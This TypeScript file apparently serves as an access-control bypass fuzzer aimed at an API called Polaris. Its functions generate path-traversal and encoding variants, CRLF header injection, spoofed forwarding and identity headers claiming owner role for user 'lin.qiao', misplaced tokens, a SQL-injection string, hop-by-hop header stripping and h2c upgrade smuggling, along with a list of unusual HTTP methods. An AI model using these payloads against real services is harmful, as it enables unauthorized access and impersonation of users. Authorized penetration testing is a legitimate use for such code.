/** Other spellings of an address, which something in between might take for the address or for another one. */
export function pathTricks(path: string): string[] {
  const parts = path.split('/').slice(1);
  const [first = '', ...others] = parts;
  const last = parts.at(-1) ?? '';
  const upTo = path.slice(0, -last.length);
  const rest = others.join('/');
  const coded = (text: string, percent = '%') =>
    `${percent}${text.charCodeAt(0).toString(16).padStart(2, '0')}${text.slice(1)}`;
  return [
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/./${path}`,
    `/x/..${path}`,
    `/%2e%2e${path}`,
    `/${first}/./${rest}`,
    `/${first}//${rest}`,
    `/${first}/%2e/${rest}`,
    `/${first}%2f${rest}`,
    `/${first}\\${rest}`,
    `/${coded(first)}/${rest}`,
    `/${coded(first, '%25')}/${rest}`,
    `/${first.toUpperCase()}/${rest}`,
    `${upTo}${last.toUpperCase()}`,
    `${path}/`,
    `${path}//`,
    `${path}/.`,
    `${path}/x/..`,
    `${path};x=y`,
    `/${first};x=y/${rest}`,
    `${path}.json`,
    `${path}%00`,
    `${path}%20`,
    `${path}%0d%0aX-Polaris-Token:x`,
    `${path}\u0000`,
    `${path}#x`,
    `${path}?`,
    `${path}/*`,
    `/core/v1/user/login/..${path}`,
    `/core/v1/user/login/../../../..${path}`,
    `/core/v1/user/login;${path}`,
    `/core/v1/user/login%2f..%2f..${path}`,
    `/core/v1/user/login%00${path}`,
    `/core/v1/user/login?${path}`,
    `/v1/Heartbeat/..${path}`,
    `/console/v1/session/..${path}`,
    `http://127.0.0.1${path}`,
    `http://user:pass@127.0.0.1${path}`,
    `//127.0.0.1${path}`,
    `*${path}`,
    path.slice(1),
  ];
}

/** Headers by which proxies, frameworks or other products are told who asks, from where, or for what. */
export function headerTricks(
  method: string,
  path: string,
  token: string,
): Readonly<Record<string, string>>[] {
  return [
    { 'X-Original-URL': path },
    { 'X-Rewrite-URL': path },
    { 'X-Forwarded-Path': path },
    { 'X-Forwarded-Prefix': '/core/v1/user/login' },
    { 'X-Forwarded-For': '127.0.0.1', 'X-Real-IP': '127.0.0.1', Forwarded: 'for=127.0.0.1;by=127.0.0.1' },
    { 'X-Forwarded-Host': 'localhost', 'X-Forwarded-Proto': 'https', 'X-Forwarded-User': 'lin.qiao' },
    { 'X-HTTP-Method-Override': method, 'X-HTTP-Method': method, 'X-Method-Override': method },
    { 'X-Polaris-User': 'lin.qiao', 'X-Polaris-Role': 'owner', 'X-Is-Owner': 'true' },
    { 'X-User': 'lin.qiao', 'Remote-User': 'lin.qiao', 'X-Remote-User': 'lin.qiao' },
    { Staffname: 'lin.qiao', 'Platform-Id': 'polaris', 'Platform-Token': 'polaris' },
    // A token that is good, everywhere but where it belongs.
    { Authorization: `Bearer ${token}` },
    { Authorization: `Basic ${Buffer.from(`lin.qiao:${token}`).toString('base64')}` },
    { Cookie: `X-Polaris-Token=${token}; x-polaris-token=${token}; token=${token}; jwt=${token}` },
    { 'Polaris-Token': token },
    { 'X-Polaris-Token-': token },
    { X_Polaris_Token: token },
    { 'X-Polaris-Tokens': token },
    { 'X-Access-Token': token },
    { 'X-Polaris-Token': `Bearer ${token}` },
    { 'X-Polaris-Token': `"${token}"` },
    { 'X-Polaris-Token': `${token}, ${token}` },
    { 'X-Polaris-Token': `${token}\u00a0` },
    { 'X-Polaris-Token': token.toLowerCase() },
    { 'X-Polaris-Token': Buffer.from(token, 'base64url').toString('hex') },
    { 'X-Polaris-Token': 'null' },
    { 'X-Polaris-Token': '*' },
    { 'X-Polaris-Token': "' OR '1'='1" },
    { Connection: 'close, X-Polaris-Token' },
    {
      Upgrade: 'h2c',
      'HTTP2-Settings': 'AAMAAABkAAQAoAAAAAIAAAAA',
      Connection: 'close, Upgrade, HTTP2-Settings',
    },
  ];
}

/** Methods that no route has, or another one has. */
export const OTHER_METHODS = [
  'HEAD',
  'OPTIONS',
  'TRACE',
  'PATCH',
  'DELETE',
  'PUT',
  'POST',
  'GET',
  'QUERY',
  'PROPFIND',
  'get',
  'Post',
];
